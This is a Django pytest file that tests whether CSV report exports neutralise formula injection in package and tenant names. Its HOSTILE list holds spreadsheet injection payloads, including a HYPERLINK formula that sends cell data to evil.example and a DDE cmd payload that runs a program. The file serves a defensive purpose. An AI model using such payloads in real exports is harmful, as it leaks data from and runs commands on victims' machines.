"""Report CSVs opened in Excel: a name someone else chose never runs as a formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.utils import timezone

from payments.models import Payment
from tests.factories import PackageFactory, PaymentFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content[3:].decode("utf-8"))))


def _paid(package):
    PaymentFactory(
        package=package,
        status=Payment.Status.COMPLETED,
        completed_at=timezone.now(),
        provider="daraja",
    )


@pytest.mark.parametrize("name", HOSTILE)
def test_a_package_name_starting_a_formula_is_written_as_text(client, tenant, tenant_admin, name):
    _paid(PackageFactory(tenant=tenant, name=name, price=Decimal("10.00")))
    client.force_login(tenant_admin)
    rows = rows_of(client.get("/reports/", {"format": "csv", "table": "package"}))
    assert rows[1][0] == "'" + name  # Excel shows the text; the quote is not part of a formula
    assert rows[1][2:] == ["1", "10.00", "KES"]  # numbers stay numbers


def test_a_tenant_name_cannot_attack_the_system_admins_spreadsheet(client, system_admin, tenant):
    tenant.name = HOSTILE[0]
    tenant.save(update_fields=["name"])
    _paid(PackageFactory(tenant=tenant, price=Decimal("10.00")))
    client.force_login(system_admin)
    rows = rows_of(client.get("/system/reports/", {"format": "csv", "table": "tenant"}))
    assert [row[0] for row in rows[1:-1]] == ["'" + HOSTILE[0]]
    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row if cell)
